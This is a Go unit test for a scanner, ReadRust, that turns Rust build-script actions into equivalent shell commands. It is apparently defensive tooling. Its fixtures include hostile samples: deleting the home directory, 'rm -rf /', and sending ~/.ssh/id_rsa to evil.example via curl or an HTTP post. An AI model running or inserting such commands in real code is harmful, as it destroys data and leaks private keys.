package code

import (
	"strings"
	"testing"
)

func TestReadRust(t *testing.T) {
	tests := []struct {
		name, src string
		lines     []string // lines that must be reported
		network   string
		unknown   string // a fragment of Unknown ("" for none)
		why       bool
	}{
		{"plain", "fn main() {\n    println!(\"cargo:rerun-if-changed=src/x.c\");\n    cc::Build::new().file(\"src/x.c\").compile(\"x\");\n}\n", nil, "", "", false},
		{"sh -c", `use std::process::Command; fn main() { Command::new("sh").arg("-c").arg("rm -rf ~").status().unwrap(); }`, []string{"sh -c 'rm -rf ~'"}, "", "", false},
		{"args array", `fn main() { std::process::Command::new("curl").args(&["-F", "k=@/home/dev/.ssh/id_rsa", "https://evil.example"]).output().unwrap(); }`, []string{"curl -F k=@/home/dev/.ssh/id_rsa https://evil.example"}, "", "", false},
		{"bound builder", "fn main() {\n let mut c = Command::new(\"git\");\n c.arg(\"rev-parse\");\n c.current_dir(\"sub\").arg(\"HEAD\");\n c.status();\n}", []string{"cd sub && git rev-parse HEAD"}, "", "", false},
		{"home delete", `fn main() { std::fs::remove_dir_all(std::env::var("HOME").unwrap()).ok(); }`, []string{"rm -rf -- ~"}, "", "", false},
		{"format home", `fn main() { let home = env::var("HOME").unwrap(); fs::remove_file(format!("{}/.bashrc", home)).ok(); }`, []string{"rm -f -- ~/.bashrc"}, "", "", false},
		{"out dir write", "fn main() {\n let out = env::var_os(\"OUT_DIR\").unwrap();\n let dest = Path::new(&out).join(\"gen.rs\");\n fs::write(&dest, \"x\").unwrap();\n}", nil, "", "", false},
		{"dynamic program", `fn main() { let p = std::env::args().nth(1).unwrap(); Command::new(p).status(); }`, nil, "", "only known when the build runs", false},
		{"dynamic arg", `fn main() { Command::new("sh").arg("-c").arg(std::env::args().nth(1).unwrap()).status(); }`, []string{"sh -c " + DynamicWord}, "", "", false},
		{"comment and string", "// Command::new(\"sh\").arg(\"rm -rf ~\")\n/* nested /* Command::new(\"x\") */ */\nfn main() { println!(\"Command::new(\\\"rm\\\") fs::remove_dir_all(\\\"/\\\")\"); let s = r#\"Command::new(\"y\")\"#; }", nil, "", "", false},
		{"renamed", `use std::process::Command as Cmd; fn main() { Cmd::new("rm").arg("-rf").arg("/").status(); }`, nil, "", "under another name", false},
		{"network", `fn main() { let k = std::fs::read_to_string("/home/dev/.ssh/id_rsa").unwrap(); reqwest::blocking::Client::new().post("https://evil.example/u").body(k).send(); }`, []string{"cat -- /home/dev/.ssh/id_rsa", "curl -- https://evil.example/u"}, "", "", false},
		{"tcp", `use std::net::TcpStream; fn main() { let s = TcpStream::connect(ADDR); }`, nil, "TcpStream", "", false},
		{"loose arg", `fn run(c: &mut Command) { c.arg("-rf"); }`, nil, "", "cannot tie", false},
		{"lifetimes and chars", "fn f<'a>(x: &'a str) -> char { let c = '\\''; let d = b'x'; 'outer: loop { break 'outer; } c }", nil, "", "", false},
		{"mod", "mod gen;\nmod inline { }\nfn main() {}", nil, "", "", false},
		{"unterminated", `fn main() { let s = "abc; }`, nil, "", "", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := ReadRust(tt.src)
			if (e.Why != "") != tt.why {
				t.Fatalf("Why = %q", e.Why)
			}
			for _, l := range tt.lines {
				if !contains(e.Lines, l) {
					t.Errorf("no line %q in %q", l, e.Lines)
				}
			}
			if tt.lines == nil && len(e.Lines) > 0 {
				t.Errorf("lines %q, want none", e.Lines)
			}
			if e.Network != tt.network {
				t.Errorf("Network = %q, want %q", e.Network, tt.network)
			}
			if tt.unknown == "" && e.Unknown != "" || !strings.Contains(e.Unknown, tt.unknown) {
				t.Errorf("Unknown = %q, want %q", e.Unknown, tt.unknown)
			}
		})
	}
	if e := ReadRust("mod gen;\nfn main() { include!(\"x.rs\"); }"); strings.Join(e.Modules, ",") != "gen" || strings.Join(e.Files, ",") != "x.rs" {
		t.Errorf("Files = %q", e.Files)
	}
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}
